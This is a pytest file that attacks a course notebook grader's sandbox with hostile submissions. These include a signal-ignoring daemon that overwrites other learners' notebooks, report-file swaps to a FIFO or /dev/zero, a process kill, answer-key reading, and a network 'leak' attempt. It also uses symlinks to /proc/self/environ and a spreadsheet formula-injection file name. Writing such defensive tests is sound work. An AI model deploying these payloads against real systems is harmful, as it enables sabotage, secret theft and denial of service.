"""The grader's threat model (book/grading.md, "What a submission can and cannot do"), attacked.

One class folder of honest, blank and hostile lesson-01 submissions, built here
(nothing hostile is committed), is graded by ONE run of the command line
(`python -m embedlab.grade`, -j 2, short limits), as an instructor would run it.
Each test then checks that one attack failed:

* a double-forked, `setsid`, signal-ignoring child that outlives its kernel and
  rewrites every other notebook it can find (through the processes it can see);
* a submission that swaps the grader's report file for a FIFO, or for a link
  to /dev/zero; one that kills a process it names (and writes that pid where the
  grader used to read the kernel's); one that floods the channel to grow the
  grader's memory; one whose function answer never returns (the probe hangs);
* reading the answer keys, and reaching the network (a listener of this test on
  the machine's own 127.0.0.1, and the internet);
* file names that are not UTF-8, hold control characters or begin with `=`;
  one file reached by three paths; links to files outside the folder, including
  the grader's own environment (/proc/self/environ); --out a link to a file.

And: every honest or blank submission scores exactly what it scores graded without
the hostile ones (the solution's 7 and the blank's 0 in tests/test_grade_lessons.py, the
wrong answers' 4 in tests/test_grade.py, the same notebook built by the same function); the CSV is complete; nothing a submission started is alive afterwards;
an unrelated process of the same user is untouched. Separate small tests: no
bubblewrap on PATH, bad limits, Ctrl-C.
"""

import contextlib
import csv
import ctypes
import hashlib
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from embedlab.grading.lessons import questions_for

from solution_runner import after_setup, answer_cell, before, notebook

# the hostile class waits on cell and run limits and on signals (CONTRIBUTING.md, "Tests that wait")
pytestmark = pytest.mark.waits

ROOT = Path(__file__).resolve().parent.parent
LESSON = "01-toy-table"


def solution_nb():
    return notebook("solutions", LESSON)


def exercise_nb():
    return notebook("exercises", LESSON)


NAMES = [q.name for q in questions_for(LESSON)]  # E, n_params, batch, cosine, cos_pair, model_table, extra_dim_cost
LIMITS = ["--cell-timeout", "5", "--timeout", "40", "-j", "2"]
RUN_TIMEOUT = 300  # seconds: past this the grader is taken to hang
MARK = f"embedlab-hostile-{secrets.token_hex(6)}"  # in the command line of everything a submission starts
SECRET_FILE = f"TOPSECRET-{secrets.token_hex(8)}"
SECRET_ENV = f"AAA_EMBEDLAB_SECRET_{secrets.token_hex(4)}"  # first in the grader's environment
PEAK_LIMIT_MB = 150  # the grader's own peak memory (book/grading.md)

# The grader, run so that its own peak memory is printed last: VmHWM, the peak resident size of
# its own address space (ru_maxrss would also count the parent's pages it was forked with).
GRADER = ("import re, sys\nfrom embedlab.grade import main\ncode = main(sys.argv[1:])\n"
          "status = open('/proc/self/status').read()\n"
          "print('MAXRSS_KB', re.search(r'VmHWM:\\s*(\\d+) kB', status).group(1))\nsys.exit(code)\n")


def honest_wrong():
    """Three wrong answers: test_grade.py's `wrong` case, the same notebook, graded there among no
    saboteur to 4 / 7."""
    from test_grade import hostile_wrong

    return hostile_wrong()


# The saboteur's daemon: finds the submissions through every process it can see
# (the grader's command line names the folder) and the grader's old temp copies,
# and replaces every other notebook with an empty one (which scores 0). Limited to
# this test's own folders, so that it cannot touch anything else on the machine.
DAEMON = r'''
import glob, json, os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
mark, scope = sys.argv[1], sys.argv[2]
empty = json.dumps({"cells": [], "metadata": {"embedlab": {"lesson": "01-toy-table"}},
                    "nbformat": 4, "nbformat_minor": 5})
end = time.time() + 90
while time.time() < end:
    targets = set()
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        cwd = os.path.dirname(cmdline) + "/cwd"
        for arg in args:
            arg = os.path.join(cwd, arg.decode("utf-8", "replace"))
            try:
                if not os.path.realpath(arg).startswith(scope):  # this test's folders only
                    continue
            except OSError:
                continue
            if os.path.isdir(arg):
                targets.update(glob.glob(os.path.join(arg, "**", "*.ipynb"), recursive=True))
            elif arg.endswith(".ipynb"):
                targets.add(arg)
    targets.update(glob.glob(os.path.join(scope, "**", "*.ipynb"), recursive=True))
    for target in targets:
        real = os.path.realpath(target)
        if real.startswith(scope) and "saboteur" not in real:
            try:
                with open(real, "w") as f:
                    f.write(empty)
            except OSError:
                pass
    time.sleep(0.1)
'''


def saboteur(scope):
    code = (
        "import os, sys\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, {MARK!r}, {str(scope)!r}])\n"
        "    os._exit(0)\n"
        "os.waitpid(pid, 0)"
    )
    return after_setup(solution_nb(), code)


def report_fifo():
    """Swap the file the grader read the worker's report from for a FIFO (a read of it blocks forever)."""
    return after_setup(solution_nb(), (
        "import os\n"
        "for path in ('../report.json', 'report.json'):\n"
        "    try:\n        os.remove(path)\n    except OSError:\n        pass\n"
        "    try:\n        os.mkfifo(path)\n    except OSError:\n        pass"
    ))


def report_zero():
    """Swap the report file for a link to /dev/zero (a read of it never ends, memory grows)."""
    return after_setup(solution_nb(), (
        "import os\n"
        "for path in ('../report.json', 'report.json'):\n"
        "    try:\n        os.remove(path)\n    except OSError:\n        pass\n"
        "    try:\n        os.symlink('/dev/zero', path)\n    except OSError:\n        pass"
    ))


def memory_flood():
    """Make every message of the probe (and every JSON file the kernel writes) tens of MB."""
    return after_setup(solution_nb(), (
        "import json, IPython.display as display\n"
        "real_publish = display.publish_display_data\n"
        "def flood(data, *args, **kwargs):\n"
        "    flood = {str(i): [[]] * 80_000 for i in range(10)}  # 3.2 MB as JSON\n"
        "    return real_publish({key: flood for key in data}, *args, **kwargs)\n"
        "display.publish_display_data = flood\n"
        "def flood_dump(obj, f, *args, **kwargs):\n"
        "    f.write('{\"E\": {\"data\": [' + '[],' * 6_000_000 + '[]]}}')\n"
        "json.dump = flood_dump"
    ))


def snoop(victim, port):
    """Kill a named process, read the keys, reach the network, and hang the probe."""
    nb = solution_nb()
    before(nb, "E", (
        "import os, signal\n"
        f"try:\n    os.kill({victim}, signal.SIGKILL)\nexcept OSError:\n    pass\n"
        f"for path in ('../kernel.pid', 'kernel.pid'):\n"
        f"    try:\n        open(path, 'w').write('{victim}')\n    except OSError:\n        pass"
    ))
    before(nb, "cos_pair", (
        "import glob, os, embedlab\n"
        "keys = glob.glob(os.path.join(os.path.dirname(embedlab.__file__), '**', '*.key'), recursive=True)\n"
        "read = []\n"
        "for key in keys:\n"
        "    try:\n        read.append(len(open(key, 'rb').read()))\n    except OSError:\n        pass\n"
        "raise RuntimeError(f'read {len(read)} answer keys' if read else 'no answer key readable')"
    ))
    before(nb, "batch", (
        "import socket\n"
        "reached = []\n"
        f"for address in (('127.0.0.1', {port}), ('1.1.1.1', 53)):\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'leak')\n"
        "        reached.append(address[0])\n"
        "    except OSError:\n        pass\n"
        "raise RuntimeError(f'reached {reached}' if reached else 'no network')"
    ))
    answer_cell(nb, "cosine").source = "def cosine(a, b):\n    import time\n    while True:\n        time.sleep(1)"
    nb.cells = [c for c in nb.cells if c.source != 'ex.check("cosine")']  # only the grader's probe calls it
    return nb


HONEST = {  # file name (bytes: some are not UTF-8) -> (builder, points graded without a saboteur)
    b"ok-\xff\xfe-01-toy-table.ipynb": (solution_nb, 7),
    b"wrong-\x1b[31m-\n-01-toy-table.ipynb": (honest_wrong, 4),
    b"=HYPERLINK(1)-01-toy-table.ipynb": (exercise_nb, 0),
}
LABELS = {  # how each honest name appears in the CSV and the summary
    b"ok-\xff\xfe-01-toy-table.ipynb": "./ok-\\xff\\xfe-01-toy-table.ipynb",
    b"wrong-\x1b[31m-\n-01-toy-table.ipynb": "./wrong-\\x1b[31m-\\x0a-01-toy-table.ipynb",
    b"=HYPERLINK(1)-01-toy-table.ipynb": "=HYPERLINK(1)-01-toy-table.ipynb",  # given on the command line, first
}
ALL = {name: "correct" for name in NAMES}


def in_csv(label: str) -> str:
    """A label as the CSV holds it: a leading = + - @ gets a quote, so spreadsheets do not run it."""
    return "'" + label if label[:1] in ("=", "+", "-", "@") else label


HOSTILE = {  # file name -> (expected status per question, points)
    "aaa-saboteur-01-toy-table.ipynb": (ALL, 7),
    "report-fifo-01-toy-table.ipynb": (ALL, 7),
    "report-zero-01-toy-table.ipynb": (ALL, 7),
    "memory-flood-01-toy-table.ipynb": ({n: "error" for n in NAMES}, 0),
    "snoop-01-toy-table.ipynb": (ALL | {"cos_pair": "error", "batch": "error", "cosine": "timeout"}, 4),
    "leak-file-01-toy-table.ipynb": ({n: "unreadable" for n in NAMES}, 0),
    "leak-env-01-toy-table.ipynb": ({n: "unreadable" for n in NAMES}, 0),
}


def tree_hashes(folder: Path) -> dict:
    out = {}
    for path in sorted(folder.iterdir()):
        out[os.fsencode(path.name)] = ("link", os.readlink(path)) if path.is_symlink() \
            else hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def become_subreaper():
    """Orphans of anything this process starts are re-parented here, so a survivor is found."""
    libc = ctypes.CDLL(None, use_errno=True)
    PR_SET_CHILD_SUBREAPER = 36
    assert libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) == 0


def children_of(pid: int) -> list[int]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if int(fields[1]) == pid and fields[0] != "Z":
            found.append(int(stat.parent.name))
    return found


def marked_processes() -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if MARK.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


def run_cli(args, cwd, env=None, timeout=RUN_TIMEOUT):
    return subprocess.run([sys.executable, "-c", GRADER, *args], cwd=cwd, env=env, capture_output=True,
                          timeout=timeout)


def read_csv(path: Path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def by_label(table):
    header, *rows = table
    out = {}
    for row in rows:
        record = dict(zip(header, row))
        out.setdefault(record["submission"], []).append(record)
    return out


@pytest.fixture(scope="module")
def klass(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    folder, grader_tmp = base / "class", base / "grader-tmp"
    folder.mkdir()
    grader_tmp.mkdir()
    for name, (build, _) in HONEST.items():
        nbformat.write(build(), os.fsdecode(bytes(folder) + b"/" + name))
    for name, build in {"aaa-saboteur-01-toy-table.ipynb": lambda: saboteur(base),
                        "report-fifo-01-toy-table.ipynb": report_fifo,
                        "report-zero-01-toy-table.ipynb": report_zero,
                        "memory-flood-01-toy-table.ipynb": memory_flood}.items():
        nbformat.write(build(), folder / name)
    # the same files again: a link (not read: each file is graded at its own path) and a hard link
    # (a path of its own, graded as a copy would be), named to be found last
    (folder / "zz-dup-link-01-toy-table.ipynb").symlink_to(os.fsdecode(b"ok-\xff\xfe-01-toy-table.ipynb"))
    os.link(os.fsdecode(bytes(folder) + b"/wrong-\x1b[31m-\n-01-toy-table.ipynb"),
            folder / "zz-dup-hard-01-toy-table.ipynb")
    # links out of the folder: a file of the instructor's, and the grader's own environment
    (base / "instructor-notes.txt").write_text(SECRET_FILE)
    (folder / "leak-file-01-toy-table.ipynb").symlink_to(base / "instructor-notes.txt")
    (folder / "leak-env-01-toy-table.ipynb").symlink_to("/proc/self/environ")
    # --out is a link to a file that must survive
    (base / "precious.txt").write_text("not a CSV")
    out = base / "out"
    out.mkdir()
    (out / "scores.csv").symlink_to(base / "precious.txt")

    become_subreaper()
    # children this test process already has (another test file's kernel, in the same worker)
    earlier_children = set(children_of(os.getpid()))
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)"], start_new_session=True)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.1)
    nbformat.write(snoop(victim.pid, listener.getsockname()[1]), folder / "snoop-01-toy-table.ipynb")
    before_run = tree_hashes(folder)

    env = {SECRET_ENV: "1", **os.environ, "TMPDIR": str(grader_tmp)}
    args = [os.fsdecode(b"=HYPERLINK(1)-01-toy-table.ipynb"), ".", "=HYPERLINK(1)-01-toy-table.ipynb",
            "--out", str(out / "scores.csv"), *LIMITS]
    start = time.monotonic()
    try:
        done = run_cli(args, folder, env)
        hung = False
    except subprocess.TimeoutExpired as exc:
        done, hung = exc, True
    seconds = time.monotonic() - start
    time.sleep(0.5)  # a survivor would have had time to act
    survivors = children_of(os.getpid())
    marked = marked_processes()
    victim_alive = victim.poll() is None
    victim.kill()
    victim.wait()
    survivors = [pid for pid in survivors if pid != victim.pid and pid not in earlier_children]
    try:
        connection = listener.accept()[0]
        connection.close()
        reached = True
    except (socket.timeout, OSError):
        reached = False
    listener.close()
    for pid in survivors + marked:  # leave nothing behind, whatever happened
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

    csv_path = out / "scores.csv"
    return {
        "hung": hung, "code": None if hung else done.returncode, "seconds": seconds,
        "stdout": b"" if hung else done.stdout, "stderr": b"" if hung else done.stderr,
        "csv_bytes": csv_path.read_bytes() if csv_path.is_file() else b"",
        "rows": by_label(read_csv(csv_path)) if csv_path.is_file() and not csv_path.is_symlink() else {},
        "out": out, "base": base, "before": before_run, "after": tree_hashes(folder),
        "survivors": survivors, "marked": marked, "victim_alive": victim_alive, "reached": reached,
        "grader_tmp": list(grader_tmp.iterdir()),
    }


def test_grader_finishes_and_the_csv_is_complete(klass):
    assert not klass["hung"], f"the grader ran past {RUN_TIMEOUT} s"
    assert klass["code"] == 0, klass["stderr"][-2000:]
    expected = {in_csv(LABELS[name]) for name in HONEST} | {f"./{name}" for name in HOSTILE} | {
        "./zz-dup-link-01-toy-table.ipynb", "./zz-dup-hard-01-toy-table.ipynb"}
    assert set(klass["rows"]) == expected  # every path once (the file named twice on the command line once)
    for label, rows in klass["rows"].items():
        assert [r["question"] for r in rows] == NAMES, label
    link = klass["rows"]["./zz-dup-link-01-toy-table.ipynb"]
    assert all(r["status"] == "unreadable" and "link to another file" in r["detail"] for r in link), link
    assert sum(float(r["points"]) for r in klass["rows"]["./zz-dup-hard-01-toy-table.ipynb"]) == 4  # the wrong one's
    print(f"\nhostile class graded in {klass['seconds']:.1f} s")


def test_honest_and_blank_scores_equal_their_scores_graded_without_the_hostile_ones(klass):
    """The points each scores with no saboteur in its folder (HONEST): the solution and the blank
    exercise in tests/test_grade_lessons.py, the wrong answers in tests/test_grade.py (its `wrong`
    case); a regrade gives the same rows (tests/test_classmode.py grades a file alone twice)."""
    for name, (_, want) in HONEST.items():
        got = sum(float(r["points"]) for r in klass["rows"][in_csv(LABELS[name])])
        assert got == want, (name, got)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_submission_gets_only_its_own_score(klass, name):
    statuses, want = HOSTILE[name]
    rows = klass["rows"][f"./{name}"]
    assert {r["question"]: r["status"] for r in rows} == statuses, rows
    assert sum(float(r["points"]) for r in rows) == want


def test_no_submission_can_change_another(klass):
    assert klass["after"] == klass["before"]  # every file (and link) in the folder as it was


def test_nothing_a_submission_started_is_alive_and_an_unrelated_process_is_untouched(klass):
    assert klass["survivors"] == []  # no orphan of the grader's tree (this test is their subreaper)
    assert klass["marked"] == []  # not the saboteur's double-forked, setsid, signal-ignoring daemon
    assert klass["victim_alive"]  # the process the snoop named and tried to kill


def test_no_answer_key_no_network(klass):
    details = {r["question"]: r["detail"] for r in klass["rows"]["./snoop-01-toy-table.ipynb"]}
    assert "no answer key readable" in details["cos_pair"]
    assert "no network" in details["batch"]
    assert not klass["reached"]  # this test's listener on 127.0.0.1 got no connection


def test_a_probe_that_hangs_is_a_timeout(klass):
    rows = {r["question"]: r for r in klass["rows"]["./snoop-01-toy-table.ipynb"]}
    assert rows["cosine"]["status"] == "timeout"
    assert "cell limit" in rows["cosine"]["detail"]


def test_the_grader_memory_stays_bounded(klass):
    peak = [line for line in klass["stdout"].decode("utf-8", "replace").splitlines() if line.startswith("MAXRSS_KB")]
    assert peak, klass["stdout"][-500:]
    print(f"\nthe grader's peak memory over the hostile class: {int(peak[0].split()[1]) / 1024:.0f} MiB")
    assert int(peak[0].split()[1]) / 1024 < PEAK_LIMIT_MB
    details = {r["detail"] for r in klass["rows"]["./memory-flood-01-toy-table.ipynb"]}
    assert any("refused" in d for d in details), details


def test_links_out_of_the_folder_are_not_read(klass):
    for name in ("leak-file-01-toy-table.ipynb", "leak-env-01-toy-table.ipynb"):
        assert all("outside the submissions folder" in r["detail"] for r in klass["rows"][f"./{name}"])
    everything = klass["csv_bytes"] + klass["stdout"] + klass["stderr"]
    assert SECRET_FILE[:9].encode() not in everything  # "TOPSECRET"
    assert SECRET_ENV[:12].encode() not in everything  # "AAA_EMBEDLAB"


def test_file_names_are_written_and_printed_safely(klass):
    data = klass["csv_bytes"]
    data.decode("utf-8")  # valid UTF-8, whatever the names were
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", data.replace(b"\r\n", b""))  # no raw control character
    assert data.count(b"\n") == data.count(b"\r\n") == sum(len(rows) for rows in klass["rows"].values()) + 1  # one line per row
    assert b'\n"\'=HYPERLINK(1)-01-toy-table.ipynb",' in data  # neutralised for spreadsheets, every field quoted
    assert b"\n=" not in data and b'\n"=' not in data
    printed = klass["stdout"]
    assert b"\x1b" not in printed and b"\xff" not in printed
    for name in HONEST:
        assert LABELS[name].encode() in printed


def test_out_is_replaced_atomically_never_written_through_a_link(klass):
    assert (klass["base"] / "precious.txt").read_text() == "not a CSV"
    assert not (klass["out"] / "scores.csv").is_symlink()
    assert [p.name for p in klass["out"].iterdir()] == ["scores.csv"]  # no temporary file left
    assert klass["grader_tmp"] == []  # no temporary folder left


# --------------------------------------------------------------------------


def test_without_bubblewrap_the_grader_refuses_and_names_the_flag(tmp_path):
    nb = tmp_path / f"{LESSON}.ipynb"
    nbformat.write(exercise_nb(), nb)
    env = {**os.environ, "PATH": str(tmp_path)}  # no bwrap on it
    done = run_cli([str(nb), "--out", str(tmp_path / "s.csv")], tmp_path, env, timeout=60)
    assert done.returncode == 2
    assert b"--no-sandbox" in done.stderr
    assert not (tmp_path / "s.csv").exists()
    done = run_cli([str(nb), "--out", str(tmp_path / "s.csv"), "--no-sandbox", "-q"], tmp_path, env, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert b"no sandbox" in done.stdout
    assert [r[5] for r in read_csv(tmp_path / "s.csv")[1:]] == ["not_attempted"] * len(NAMES)


@pytest.mark.parametrize("flag, value", [("--timeout", "nan"), ("--timeout", "inf"), ("--timeout", "0"),
                                         ("--cell-timeout", "-1"), ("--cell-timeout", "1e999"),
                                         ("--memory-mb", "0"), ("--memory-mb", "-5"), ("--memory-mb", "inf")])
def test_limits_must_be_finite_and_positive(flag, value, tmp_path):
    from embedlab.grading import cli

    (tmp_path / f"{LESSON}.ipynb").write_text("{", encoding="utf-8")  # something to grade, quickly
    with pytest.raises(SystemExit) as exc:
        cli.main([str(tmp_path), flag, value, "--out", str(tmp_path / "s.csv"), "-q"])
    assert exc.value.code == 2
    assert not (tmp_path / "s.csv").exists()


def control_groups_of(pid: int) -> list[str]:
    """The control-group folders a grader of this pid made (embedlab.grading.budget names them so)."""
    import glob

    return glob.glob(f"/sys/fs/cgroup/*/**/embedlab-grade-{pid}-*", recursive=True)


@contextlib.contextmanager
def ctrl_c_not_ignored():
    """SIGINT handled (as in a terminal) while inside: a test run started in the background by a
    non-interactive shell (`pytest ... &`, a CI step) inherits SIGINT ignored, and a process started
    from it would inherit that too and never see Ctrl-C (a handler, unlike SIG_IGN, is reset to the
    default by exec, so the grader then installs its own)."""
    old = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        yield
    finally:
        signal.signal(signal.SIGINT, old)


def test_ctrl_c_writes_the_rows_graded_so_far(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / f"a-corrupt-{LESSON}.ipynb").write_text("{", encoding="utf-8")
    looping = tmp_path / "looping"  # written by the loop's cell as it starts (no sandbox: it can)
    nbformat.write(before(solution_nb(), "E", f"open({str(looping)!r}, 'w').close()\nwhile True:\n    pass"),
                   folder / f"b-loop-{LESSON}.ipynb")
    out = tmp_path / "s.csv"
    grader_tmp = tmp_path / "grader-tmp"
    grader_tmp.mkdir()
    with ctrl_c_not_ignored():
        proc = subprocess.Popen([sys.executable, "-m", "embedlab.grade", str(folder), "--out", str(out),
                                 "--cell-timeout", "60", "--timeout", "120", "--no-sandbox"],
                                env={**os.environ, "TMPDIR": str(grader_tmp)}, stderr=subprocess.PIPE,
                                stdout=subprocess.PIPE)
    line = b""
    while b"[1/2]" not in line:  # the progress line of the first submission
        line = proc.stderr.readline()
        assert line, "the grader stopped before grading the first submission"
    assert b"a-corrupt" in line
    deadline = time.monotonic() + 60
    while not looping.exists():  # until the loop is running in its kernel
        assert time.monotonic() < deadline and proc.poll() is None, "the loop's cell never started"
        time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    stdout, _ = proc.communicate(timeout=60)
    assert proc.returncode == 130
    rows = read_csv(out)[1:]
    graded = {Path(r[0]).name for r in rows if r[5] != "not_graded"}
    assert graded == {f"a-corrupt-{LESSON}.ipynb"}
    # the loop's notebook was not graded: its rows say so, with no points (never a 0 that looks like a grade)
    assert {(Path(r[0]).name, r[3], r[5]) for r in rows if Path(r[0]).name not in graded} == \
        {(f"b-loop-{LESSON}.ipynb", "", "not_graded")}
    assert b"Ctrl-C" in stdout
    assert list(grader_tmp.iterdir()) == []  # the interrupted run's temporary folder is gone
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".s.csv")] == []
    assert control_groups_of(proc.pid) == []  # its control groups are removed (where it made any)


HUNG_JUDGE = """
import sys
from embedlab.grading import cli, grader
grader.STOP_GRACE = 1.0
def hang(*args, **kwargs):  # a judge that never returns (a learner's answer that makes it loop)
    print('JUDGE STUCK', file=sys.stderr, flush=True)
    while True:
        pass
grader.score = hang
sys.exit(cli.run(sys.argv[1:]))
"""


def test_sigterm_ends_the_run_even_while_a_judge_is_stuck(tmp_path):
    """Judging runs in the grader's process, on a learner's plain data; if a judge ever loops (as lesson 11's
    rules did on a design of 10**29 layers, before model_shape capped the layers), SIGTERM still writes the
    rows graded so far and exits 130, instead of waiting for that thread forever."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / f"a-corrupt-{LESSON}.ipynb").write_text("{", encoding="utf-8")
    nbformat.write(solution_nb(), folder / f"b-judged-{LESSON}.ipynb")
    out = tmp_path / "s.csv"
    proc = subprocess.Popen([sys.executable, "-c", HUNG_JUDGE, str(folder), "--out", str(out), "--no-sandbox"],
                            stderr=subprocess.PIPE, stdout=subprocess.PIPE)
    seen = []
    while b"JUDGE STUCK" not in (line := proc.stderr.readline()):  # the second submission's judge loops
        assert line, f"the grader stopped before judging the second submission: {seen}"
        seen.append(line)
    assert any(b"[1/2]" in earlier and b"a-corrupt" in earlier for earlier in seen)
    proc.send_signal(signal.SIGTERM)
    try:
        proc.communicate(timeout=60)
    finally:
        proc.kill()  # a grader that did not stop must not spin on after the test
    assert proc.returncode == 130
    rows = read_csv(out)[1:]
    assert {Path(r[0]).name for r in rows if r[5] != "not_graded"} == {f"a-corrupt-{LESSON}.ipynb"}
    assert {(Path(r[0]).name, r[3]) for r in rows if r[5] == "not_graded"} == {(f"b-judged-{LESSON}.ipynb", "")}
    assert control_groups_of(proc.pid) == []  # removed, even with a judge still stuck in a thread
